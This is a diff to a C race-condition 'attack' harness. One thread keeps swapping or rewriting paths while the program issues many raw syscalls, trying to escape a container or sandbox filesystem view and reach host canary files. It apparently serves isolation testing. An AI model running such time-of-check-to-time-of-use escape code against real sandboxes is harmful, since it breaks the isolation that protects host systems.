@@ -21,7 +21,9 @@
  * first leak.
  *
  * usage: attack -m MODE -c CANARY [-s swap|mem] [-l LINK] [-p PREFIX]
- *               [-t SECONDS] [-n ATTEMPTS]
+ *               [-t SECONDS] [-a MIN_ATTEMPTS] [-n MAX_ATTEMPTS]
+ *   -t, -a  attack for SECONDS, and on until MIN_ATTEMPTS calls were made (a
+ *          slow machine), but no longer than 4 x SECONDS
  *   LINK   (swap) what s points to: host (the canary itself), root ("/"),
  *          dotdot ("../../.."), procroot (/proc/self/root),
  *          proccwd (/proc/self/cwd/../..), procfd (/proc/self/fd/N/../..)
@@ -50,13 +52,13 @@
 #include <unistd.h>
 
 #define WORK "/w"
-#define MANY 1000                 /* names the destructive modes use, one per attempt */
+#define MANY 400                  /* names the destructive modes use, one per attempt */
 #define BENIGN "benign\n"
 #define SCAN 32768                /* bytes below the victim's stack pointer the rewriter scans */
 
 static const char *mode, *canary, *style = "swap", *link_kind = "host", *prefix_kind = "plain";
 static double seconds = 2;
-static long max_attempts = 1000000;
+static long max_attempts = 1000000, min_attempts;
 static char base[4096];           /* the victim's name for the canary directory */
 static int stop, leaks, wfd = -1;
 static long attempts, successes, swaps, swap_calls;
@@ -194,23 +196,33 @@ static void check_stat(const char *what, long rc, const struct stat *st)
     }
 }
 
-static int opener(const char *p, int flags)
+#ifndef SYS_fchmodat2
+#define SYS_fchmodat2 452
+#endif
+
+/* Raw system calls throughout: glibc would turn open into openat, stat into
+ * newfstatat and so on, and each number has a handler of its own. Where a
+ * family has several numbers, attempts take them in turn. */
+static long opener(const char *p, int flags)
 {
     if (!strncmp(mode, "openat2", 7)) {
         struct open_how how = {.flags = flags, .mode = flags & O_CREAT ? 0644 : 0};
         return syscall(SYS_openat2, AT_FDCWD, p, &how, sizeof how);
     }
     if (!strncmp(mode, "openat", 6))
-        return openat(AT_FDCWD, p, flags, 0644);
-    return open(p, flags, 0644);
+        return syscall(SYS_openat, AT_FDCWD, p, flags, 0644);
+    return syscall(SYS_open, p, flags, 0644);
 }
 
-static void exec_child(const char *p)
+static void exec_child(const char *p, long i)
 {
+    char *argv[] = {"exe", "-m", "exit", NULL}, *envp[] = {NULL};
     pid_t pid = vfork();
     if (pid == 0) {
-        char *argv[] = {"exe", "-m", "exit", NULL};
-        execve(p, argv, (char *[]){NULL});
+        if (i & 1)
+            syscall(SYS_execveat, AT_FDCWD, p, argv, envp, 0);
+        else
+            syscall(SYS_execve, p, argv, envp);
         _exit(127);
     }
     if (pid > 0)
@@ -222,8 +234,7 @@ static long attempt(long i)
     struct stat st;
     struct statx stx;
     char buf[512];
-    long rc = -1;
-    int fd;
+    long rc = -1, fd;
 
     if (!strcmp(mode, "open") || !strcmp(mode, "openat") || !strcmp(mode, "openat2")) {
         if ((fd = opener(path("secret"), O_RDONLY)) >= 0) {
@@ -243,80 +254,117 @@ static long attempt(long i)
             rc = close(fd);
         }
     } else if (!strcmp(mode, "creat")) {
-        if ((fd = creat(path("victim"), 0644)) >= 0)
+        if ((fd = syscall(SYS_creat, path("victim"), 0644)) >= 0)
             rc = close(fd);
     } else if (!strcmp(mode, "stat")) {
-        check_stat(mode, rc = stat(path("hostonly"), &st), &st);
+        check_stat(mode, rc = syscall(SYS_stat, path("hostonly"), &st), &st);
     } else if (!strcmp(mode, "lstat")) {
-        check_stat(mode, rc = lstat(path("hostonly"), &st), &st);
+        check_stat(mode, rc = syscall(SYS_lstat, path("hostonly"), &st), &st);
     } else if (!strcmp(mode, "newfstatat")) {
-        check_stat(mode, rc = fstatat(AT_FDCWD, path("hostonly"), &st, AT_SYMLINK_NOFOLLOW), &st);
+        rc = syscall(SYS_newfstatat, AT_FDCWD, path("hostonly"), &st,
+                     i & 1 ? AT_SYMLINK_NOFOLLOW : 0);
+        check_stat(mode, rc, &st);
     } else if (!strcmp(mode, "statx")) {
-        rc = statx(AT_FDCWD, path("hostonly"), 0, STATX_BASIC_STATS, &stx);
+        rc = syscall(SYS_statx, AT_FDCWD, path("hostonly"), i & 1 ? AT_SYMLINK_NOFOLLOW : 0,
+                     STATX_BASIC_STATS, &stx);
         st.st_ino = stx.stx_ino;
         st.st_size = stx.stx_size;
         check_stat(mode, rc, &st);
     } else if (!strcmp(mode, "access") || !strcmp(mode, "faccessat2")) {
-        rc = !strcmp(mode, "access") ? access(path("hostonly"), F_OK)
-                                     : syscall(SYS_faccessat2, AT_FDCWD, path("hostonly"), F_OK, 0);
+        if (!strcmp(mode, "faccessat2"))
+            rc = syscall(SYS_faccessat2, AT_FDCWD, path("hostonly"), F_OK,
+                         i & 1 ? AT_SYMLINK_NOFOLLOW : 0);
+        else
+            rc = i & 1 ? syscall(SYS_faccessat, AT_FDCWD, path("hostonly"), F_OK)
+                       : syscall(SYS_access, path("hostonly"), F_OK);
         if (rc == 0)      /* only the host's canary has it */
             leak(mode, "hostonly exists", 15);
     } else if (!strcmp(mode, "readlink")) {
-        ssize_t n = readlink(path("hlink"), buf, sizeof buf);
+        long n = i & 1 ? syscall(SYS_readlinkat, AT_FDCWD, path("hlink"), buf, sizeof buf)
+                       : syscall(SYS_readlink, path("hlink"), buf, sizeof buf);
         if (n > 0 && (n != 6 || memcmp(buf, "benign", 6)))
             leak(mode, buf, n);
         rc = n;
     } else if (!strcmp(mode, "chdir")) {
-        if ((rc = chdir(path(""))) == 0) {
-            if ((fd = open("secret", O_RDONLY)) >= 0) {
-                check_read(mode, fd);
-                close(fd);
-            }
-            check_stat("chdir-stat", stat("hostonly", &st), &st);
+        /* into d (now and then afresh), then relative calls: the directory
+         * we stand in keeps changing its name between d and s */
+        static int inside;
+        if (!(i & 63) && inside) {
             if (chdir(WORK) < 0)
                 die("chdir back");
+            inside = 0;
         }
+        if (!inside && syscall(SYS_chdir, path("")) == 0)
+            inside = 1;
+        if ((fd = syscall(SYS_open, "secret", O_RDONLY)) >= 0) {
+            check_read(mode, fd);
+            close(fd);
+        }
+        check_stat("chdir-stat", rc = syscall(SYS_stat, "hostonly", &st), &st);
     } else if (!strcmp(mode, "mkdir")) {
-        rc = mkdir(path("many/m%ld", i), 0755);
+        rc = i & 1 ? syscall(SYS_mkdirat, AT_FDCWD, path("many/m%ld", i), 0755)
+                   : syscall(SYS_mkdir, path("many/m%ld", i), 0755);
     } else if (!strcmp(mode, "mknod")) {
-        rc = mknod(path("many/f%ld", i), S_IFIFO | 0644, 0);
+        rc = i & 1 ? syscall(SYS_mknodat, AT_FDCWD, path("many/f%ld", i), S_IFIFO | 0644, 0)
+                   : syscall(SYS_mknod, path("many/f%ld", i), S_IFIFO | 0644, 0);
     } else if (!strcmp(mode, "unlink")) {
-        rc = unlink(path("many/v%ld", i));
+        rc = i & 1 ? syscall(SYS_unlinkat, AT_FDCWD, path("many/v%ld", i), 0)
+                   : syscall(SYS_unlink, path("many/v%ld", i));
     } else if (!strcmp(mode, "rmdir")) {
-        rc = rmdir(path("many/r%ld", i));
+        rc = i & 1 ? syscall(SYS_unlinkat, AT_FDCWD, path("many/r%ld", i), AT_REMOVEDIR)
+                   : syscall(SYS_rmdir, path("many/r%ld", i));
     } else if (!strcmp(mode, "rename") || !strcmp(mode, "link")) {
         char from[8192];
         snprintf(from, sizeof from, "%s", path("many/v%ld", i));
-        rc = (!strcmp(mode, "link") ? link : rename)(from, path("many/n%ld", i));
+        const char *to = path("many/n%ld", i);
+        if (!strcmp(mode, "link"))
+            rc = i & 1 ? syscall(SYS_linkat, AT_FDCWD, from, AT_FDCWD, to, 0)
+                       : syscall(SYS_link, from, to);
+        else
+            rc = i % 3 == 0 ? syscall(SYS_rename, from, to)
+               : i % 3 == 1 ? syscall(SYS_renameat, AT_FDCWD, from, AT_FDCWD, to)
+                            : syscall(SYS_renameat2, AT_FDCWD, from, AT_FDCWD, to, 0);
     } else if (!strcmp(mode, "symlink")) {
-        rc = symlink("pwned", path("many/y%ld", i));
+        rc = i & 1 ? syscall(SYS_symlinkat, "pwned", AT_FDCWD, path("many/y%ld", i))
+                   : syscall(SYS_symlink, "pwned", path("many/y%ld", i));
     } else if (!strcmp(mode, "chmod")) {
-        rc = chmod(path("victim"), i & 1 ? 0604 : 0640);
+        int m = i & 1 ? 0604 : 0640;
+        rc = i % 3 == 0 ? syscall(SYS_chmod, path("victim"), m)
+           : i % 3 == 1 ? syscall(SYS_fchmodat, AT_FDCWD, path("victim"), m)
+                        : syscall(SYS_fchmodat2, AT_FDCWD, path("victim"), m, 0);
     } else if (!strcmp(mode, "chown")) {
-        rc = chown(path("victim"), 1234, 1234);
+        rc = i % 3 == 0 ? syscall(SYS_chown, path("victim"), 1234, 1234)
+           : i % 3 == 1 ? syscall(SYS_lchown, path("victim"), 1234, 1234)
+                        : syscall(SYS_fchownat, AT_FDCWD, path("victim"), 1234, 1234, 0);
     } else if (!strcmp(mode, "utimes")) {
+        struct timeval tv[2] = {{1000000, 0}, {1000000, 0}};
         struct timespec ts[2] = {{1000000, 0}, {1000000, 0}};
-        rc = utimensat(AT_FDCWD, path("victim"), ts, 0);
+        long ut[2] = {1000000, 1000000};     /* struct utimbuf */
+        rc = i % 4 == 0 ? syscall(SYS_utimes, path("victim"), tv)
+           : i % 4 == 1 ? syscall(SYS_utimensat, AT_FDCWD, path("victim"), ts, 0)
+           : i % 4 == 2 ? syscall(SYS_utime, path("victim"), ut)
+                        : syscall(SYS_futimesat, AT_FDCWD, path("victim"), tv);
     } else if (!strcmp(mode, "truncate")) {
-        rc = truncate(path("victim"), 3);
+        rc = syscall(SYS_truncate, path("victim"), 3);
     } else if (!strcmp(mode, "setxattr")) {
-        rc = setxattr(path("victim"), "user.pwned", "1", 1, 0);
+        rc = syscall(i & 1 ? SYS_lsetxattr : SYS_setxattr, path("victim"), "user.pwned", "1", 1, 0);
     } else if (!strcmp(mode, "getxattr")) {
-        ssize_t n = getxattr(path("victim"), "user.secret", buf, sizeof buf);
+        long n = syscall(i & 1 ? SYS_lgetxattr : SYS_getxattr, path("victim"), "user.secret", buf,
+                         sizeof buf);
         if (n > 0 && (n != 6 || memcmp(buf, "benign", 6)))
             leak(mode, buf, n);
         rc = n;
     } else if (!strcmp(mode, "listxattr")) {
-        ssize_t n = listxattr(path("victim"), buf, sizeof buf);
-        for (ssize_t k = 0; k < n; k += strlen(buf + k) + 1)
+        long n = syscall(i & 1 ? SYS_llistxattr : SYS_listxattr, path("victim"), buf, sizeof buf);
+        for (long k = 0; k < n; k += strlen(buf + k) + 1)
             if (strcmp(buf + k, "user.secret") && strcmp(buf + k, "user.keep") &&
                 strncmp(buf + k, "user.containers.", 16))
                 leak(mode, buf + k, strlen(buf + k));
         rc = n;
     } else if (!strcmp(mode, "removexattr")) {
-        rc = removexattr(path("victim"), "user.keep");
+        rc = syscall(i & 1 ? SYS_lremovexattr : SYS_removexattr, path("victim"), "user.keep");
     } else if (!strcmp(mode, "execve")) {
-        exec_child(path("exe"));
+        exec_child(path("exe"), i);
         rc = 0;
     } else if (!strcmp(mode, "bind") || !strcmp(mode, "connect")) {
         struct sockaddr_un sa = {.sun_family = AF_UNIX};
@@ -325,7 +373,7 @@ static long attempt(long i)
                                                               : path("listen.sock"));
         if ((fd = socket(AF_UNIX, SOCK_STREAM, 0)) < 0)
             die("socket");
-        rc = (bind_ ? bind : connect)(fd, (struct sockaddr *)&sa, sizeof sa);
+        rc = syscall(bind_ ? SYS_bind : SYS_connect, fd, &sa, sizeof sa);
         if (rc == 0 && !bind_) {
             (void)!write(fd, "hello from the container\n", 25);
             leak(mode, "connected to the host's socket", 30);
@@ -412,7 +460,7 @@ static long guarded_attempt(long i)
 static void *swapper(void *arg)
 {
     while (!__atomic_load_n(&stop, __ATOMIC_RELAXED)) {
-        if (syscall(SYS_renameat2, AT_FDCWD, "d", AT_FDCWD, "s", RENAME_EXCHANGE) == 0)
+        if (syscall(SYS_renameat2, AT_FDCWD, WORK "/d", AT_FDCWD, WORK "/s", RENAME_EXCHANGE) == 0)
             __atomic_add_fetch(&swaps, 1, __ATOMIC_RELAXED);
         __atomic_add_fetch(&swap_calls, 1, __ATOMIC_RELEASE);
     }
@@ -465,7 +513,7 @@ static void prefix(char *out, size_t n, const char *dir)
 int main(int argc, char **argv)
 {
     int opt;
-    while ((opt = getopt(argc, argv, "m:c:s:l:p:t:n:")) != -1) {
+    while ((opt = getopt(argc, argv, "m:c:s:l:p:t:a:n:")) != -1) {
         switch (opt) {
         case 'm': mode = optarg; break;
         case 'c': canary = optarg; break;
@@ -473,6 +521,7 @@ int main(int argc, char **argv)
         case 'l': link_kind = optarg; break;
         case 'p': prefix_kind = optarg; break;
         case 't': seconds = atof(optarg); break;
+        case 'a': min_attempts = atol(optarg); break;
         case 'n': max_attempts = atol(optarg); break;
         default: return 2;
         }
@@ -481,7 +530,7 @@ int main(int argc, char **argv)
         return 0;                 /* the guest's own "exe": nothing to do */
     if (!mode || !canary) {
         fprintf(stderr, "usage: attack -m MODE -c CANARY [-s swap|mem] [-l LINK] [-p PREFIX] "
-                        "[-t SECONDS] [-n ATTEMPTS]\n");
+                        "[-t SECONDS] [-a MIN_ATTEMPTS] [-n MAX_ATTEMPTS]\n");
         return 2;
     }
     int swap = !strcmp(style, "swap");
@@ -514,7 +563,7 @@ int main(int argc, char **argv)
     } else {
         pthread_create(&other, NULL, rewriter, NULL);
     }
-    double end = now() + seconds;
+    double start = now(), end = start + seconds, cap = start + 4 * seconds;
     long i;
     for (i = 0; i < max_attempts && !__atomic_load_n(&stop, __ATOMIC_RELAXED); i++) {
         long calls = __atomic_load_n(&swap_calls, __ATOMIC_ACQUIRE);
@@ -527,7 +576,7 @@ int main(int argc, char **argv)
              k++)
             __builtin_ia32_pause();
         attempts++;
-        if (!(i & 15) && now() > end)
+        if (!(i & 15) && now() > end && (i >= min_attempts || now() > cap))
             break;
     }
     __atomic_store_n(&stop, 1, __ATOMIC_RELAXED);
